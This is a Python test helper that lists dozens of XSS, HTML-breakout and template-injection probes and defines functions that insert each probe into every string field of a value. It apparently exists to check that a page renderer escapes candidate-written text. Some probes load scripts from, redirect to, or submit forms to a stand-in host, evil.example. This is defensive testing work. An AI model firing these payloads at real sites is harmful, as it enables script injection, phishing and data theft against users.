"""Texts that a candidate might write to make a page do something, and how they get into every field of a value."""

import dataclasses
import re
from enum import Enum
from typing import Any

HOSTILE = (
    # markup that would run
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/y>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>Sign in again</button></form>",
    "<template><script>alert(1)</script></template>",
    "<custom-element onclick=alert(1)>",
    # out of where it stands
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></code></pre></details><img src=x onerror=alert(1)>",
    "</bdi></h4></summary></td></tr></table><h1>Hired</h1>",
    "</main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--><base href=//evil.example><!--",
    "<plaintext>",
    # out of an attribute
    '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
    "' autofocus onfocus='alert(1)",
    "x onclick=alert(1) tabindex=1",
    '"><script>alert(1)</script>',
    "`onmouseover=alert(1)`",
    # what the head may say
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>*{display:none}@import '//evil.example/x.css';</style>",
    "<base target=_blank href=//evil.example>",
    # links
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=//evil.example ping=//evil.example>The real report</a>",
    # other people's syntax
    "{{ 7 * 7 }}{% raw %}<iframe srcdoc=x>",
    "{{ cycler.__init__.__globals__ }}{% include 'templates/team.html' %}{# %}",
    "${alert(1)}<%= 7 * 7 %>#{7*7}",
    "`<script>alert(1)</script>`",
    "`</code><img src=x onerror=alert(1)>`",
    "&lt;script&gt;&#60;script&#62;&#x3c;img onerror=alert(1)&#x3e;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # what is not to be seen, and what is too much of it
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b[2J\x1b[31m\x9b31m",
    "\u202e<tpircs>\u2066\u2069\u200b\u200f\ufeff\ud800\x00\r\x7f",
    "line\u2028alert(1)//\u2029</script>\x85\x0b\x0c",
    "\x00<script>\x00alert(1)</script>",
    "Z" + "\u0348\u0356\u033f" * 400 + "<b>",
    "A" * 5000 + "<script>",
    "<b>" * 3000,
)


def harmless(text: str) -> str:
    """As long, in as many lines, code spans and cases of a probe, and otherwise of letters and digits alone."""
    return re.sub(r"[^A-Za-z0-9`\[\n\r\x0b\x0c\x85\u2028\u2029]", "x", text)


def filled(value: Any, text: str) -> Any:
    """The same shape, with `text` for every string. Ids, and names that have to differ, get it at their end; paths at
    their start, so that code is still coloured by what its file is called. What pages are sorted out by stays."""
    return _filled(value, text, "")


_OURS = ("kind", "suite", "brief", "number", "requirements")
_AT_THE_END = ("id", "area", "title", "rationale", "band", "name", "probe", "by", "others")


def _filled(value: Any, text: str, name: str) -> Any:
    if isinstance(value, Enum) or (isinstance(value, str) and name in _OURS):
        return value
    if isinstance(value, str):
        return f"{value}{text}" if name in _AT_THE_END else f"{text}{value}" if name == "path" else text
    if isinstance(value, tuple):
        return tuple(_filled(item, text, name) for item in value)
    if isinstance(value, dict):
        return {f"{key}{text}": _filled(item, text, name) for key, item in value.items()}
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        fields = {field.name: getattr(value, field.name) for field in dataclasses.fields(value)}
        return dataclasses.replace(value, **{key: _filled(item, text, key) for key, item in fields.items()})
    return value
